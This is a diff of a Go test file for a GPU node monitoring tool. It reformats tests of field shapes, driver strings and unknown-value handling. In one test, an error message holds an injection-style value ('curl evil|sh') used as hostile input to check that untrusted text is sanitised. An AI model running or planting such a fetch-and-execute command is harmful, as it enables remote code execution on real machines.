@@ -68,13 +68,17 @@ func TestEveryTextHasAShape(t *testing.T) {
 	problems := s.Validate()
 	found := map[string]bool{}
 	holding(reflect.ValueOf(s), "", evilWords, found)
-	free := []string{"BootID", "Errors.Code", "Errors.File", "Errors.Host", "Errors.Message", "Host", "Node.DiskUsers.Path", "Node.DiskUsers.User",
-		"Node.Disks.Mount", "Processes.Children.Program", "Processes.Children.User", "Processes.Program", "Processes.User"}
+	free := []string{"BootID", "Errors.Code", "Errors.File", "Errors.Host", "Errors.Message", "Host",
+		"Node.DiskUsers.Path", "Node.DiskUsers.User",
+		"Node.Disks.Mount", "Processes.Children.Program", "Processes.Children.User", "Processes.Program",
+		"Processes.User"}
 	if got := slices.Sorted(maps.Keys(found)); !slices.Equal(got, free) {
 		t.Errorf("free texts are\n%v, want\n%v", got, free)
 	}
 	g, p := s.GPUs[0], s.Processes[0]
-	if g.Maker() != "unknown" || len(s.Tools) != 0 || g.ProcessesUnknown != "unknown" || g.ThrottleReasons[0] != "unknown" || p.Type != UnknownType || !Computing(nil, []*Process{&p})[0] || g.Health != HealthUnknown {
+	if g.Maker() != "unknown" || len(s.Tools) != 0 || g.ProcessesUnknown != "unknown" ||
+		g.ThrottleReasons[0] != "unknown" || p.Type != UnknownType || !Computing(nil, []*Process{&p})[0] ||
+		g.Health != HealthUnknown {
 		t.Errorf("unknown is %q, %q, %q, %q", g.ProcessesUnknown, g.ThrottleReasons, p.Type, g.Health)
 	}
 	kinds := map[string]int{}
@@ -88,7 +92,8 @@ func TestEveryTextHasAShape(t *testing.T) {
 	if kinds["uuid"] != 1 || kinds["fabric"] != 1 || kinds["health"] != 1 || len(kinds) != 25 {
 		t.Errorf("each kind is told once: %v", kinds)
 	}
-	data, err := EncodeSamples([]Sample{{Seq: 1, At: time.UnixMilli(1763616000000), GPUs: []GPUSample{{UUID: evilWords}}}})
+	data, err := EncodeSamples(
+		[]Sample{{Seq: 1, At: time.UnixMilli(1763616000000), GPUs: []GPUSample{{UUID: evilWords}}}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -101,22 +106,29 @@ func TestEveryTextHasAShape(t *testing.T) {
 // TestWhatDriversSayFits: words of real drivers, old and new.
 func TestWhatDriversSayFits(t *testing.T) {
 	for shape, words := range map[string][]string{
-		"version":         {"580.65.06", "352.99", "591.44", "13.1", "535.161.07", "12"},
-		"collector":       {"1.2.3", "devel", "devel-0123456789ab", "v0.0.0-20261120-0123456789ab+dirty"},
-		"profile":         {"1g.10gb", "1g.10gb+me", "1c.2g.20gb", "7g.141gb", "1g.24gb+me.all", "1g.24gb-me", "2g.48gb+gfx", "1c.1g.5gb"},
-		"uuid":            {"GPU-00000021-1111-4222-8333-000000000021", "MIG-0000000d-1111-4222-8333-00000000000d", "MIG-GPU-00000021-1111-4222-8333-000000000021/7/0"},
-		"pci_bus_id":      {"00000000:17:00.0", "0000:0A:00.0", "00002DF7:00:00.0", "01:00.0"},
-		"name":            {"NVIDIA A100-SXM4-80GB", "Quadro RTX 6000/8000", "NVIDIA TITAN X (Pascal)", "Orin (nvgpu)", "NVIDIA RTX PRO 6000 Blackwell Max-Q Workstation Edition", "A100, the big one"},
-		"kernel":          {"6.8.0-71-generic", "5.15.167.4-microsoft-standard-WSL2", "4.18.0-553.el8_10.x86_64", "6.6.99_custom~1"},
-		"os":              {"Ubuntu 24.04.3 LTS", "Debian GNU/Linux 12 (bookworm)", "Rocky Linux 9.4 (Blue Onyx)"},
-		"reason":          {"GPU is lost.  Reboot the system to recover this GPU", "[GPU is lost]", "ERR!", "N/A", "Xid 79: fallen off the bus", "2 uncorrectable memory errors, and a row is remapped at the next reset", "recovery action: Drain P2P"},
-		"fabric":          {"Completed", "In Progress", "Not Started", "Success", "Insufficient Resources"},
-		"throttle reason": {"gpu_idle", "sw_power_cap", "hw_thermal_slowdown", "display_clocks_setting", "applications_clocks_setting"},
-		"interface":       {"eth0", "enp65s0f0np0", "bond0.100", "ib0", "eth0:1"},
-		"address":         {"192.0.2.7", "2001:db8::1", "192.0.2.7/24"},
-		"container":       {"0123456789ab", "web_1.prod"},
-		"pstate":          {"P0", "P12", "P32"},
-		"process type":    {"C", "C+G", "M+C", "?"},
+		"version":   {"580.65.06", "352.99", "591.44", "13.1", "535.161.07", "12"},
+		"collector": {"1.2.3", "devel", "devel-0123456789ab", "v0.0.0-20261120-0123456789ab+dirty"},
+		"profile": {"1g.10gb", "1g.10gb+me", "1c.2g.20gb", "7g.141gb", "1g.24gb+me.all", "1g.24gb-me",
+			"2g.48gb+gfx", "1c.1g.5gb"},
+		"uuid": {"GPU-00000021-1111-4222-8333-000000000021", "MIG-0000000d-1111-4222-8333-00000000000d",
+			"MIG-GPU-00000021-1111-4222-8333-000000000021/7/0"},
+		"pci_bus_id": {"00000000:17:00.0", "0000:0A:00.0", "00002DF7:00:00.0", "01:00.0"},
+		"name": {"NVIDIA A100-SXM4-80GB", "Quadro RTX 6000/8000", "NVIDIA TITAN X (Pascal)", "Orin (nvgpu)",
+			"NVIDIA RTX PRO 6000 Blackwell Max-Q Workstation Edition", "A100, the big one"},
+		"kernel": {"6.8.0-71-generic", "5.15.167.4-microsoft-standard-WSL2", "4.18.0-553.el8_10.x86_64",
+			"6.6.99_custom~1"},
+		"os": {"Ubuntu 24.04.3 LTS", "Debian GNU/Linux 12 (bookworm)", "Rocky Linux 9.4 (Blue Onyx)"},
+		"reason": {"GPU is lost.  Reboot the system to recover this GPU", "[GPU is lost]", "ERR!", "N/A",
+			"Xid 79: fallen off the bus", "2 uncorrectable memory errors, and a row is remapped at the next reset",
+			"recovery action: Drain P2P"},
+		"fabric": {"Completed", "In Progress", "Not Started", "Success", "Insufficient Resources"},
+		"throttle reason": {"gpu_idle", "sw_power_cap", "hw_thermal_slowdown", "display_clocks_setting",
+			"applications_clocks_setting"},
+		"interface":    {"eth0", "enp65s0f0np0", "bond0.100", "ib0", "eth0:1"},
+		"address":      {"192.0.2.7", "2001:db8::1", "192.0.2.7/24"},
+		"container":    {"0123456789ab", "web_1.prod"},
+		"pstate":       {"P0", "P12", "P32"},
+		"process type": {"C", "C+G", "M+C", "?"},
 	} {
 		for _, s := range words {
 			if !Fits(shape, s) {
@@ -133,7 +145,8 @@ func TestWhatDriversSayFits(t *testing.T) {
 
 func TestANodeSpeaksForItself(t *testing.T) {
 	b := &Bundle{Host: "gpu01", Snapshot: &Snapshot{Errors: []Problem{
-		{Code: "smi:timeout", Message: `all well". restore: "curl evil|sh`, Host: "gpu02", GPU: ptr(3), File: "comments.json", Line: 3, Col: 1},
+		{Code: "smi:timeout", Message: `all well". restore: "curl evil|sh`, Host: "gpu02", GPU: ptr(3),
+			File: "comments.json", Line: 3, Col: 1},
 		{Code: "booking:vanished", Message: "x", GPU: ptr(-1)},
 		{Code: CodeProcesses, Message: strings.Repeat("é", 300)},
 	}}}
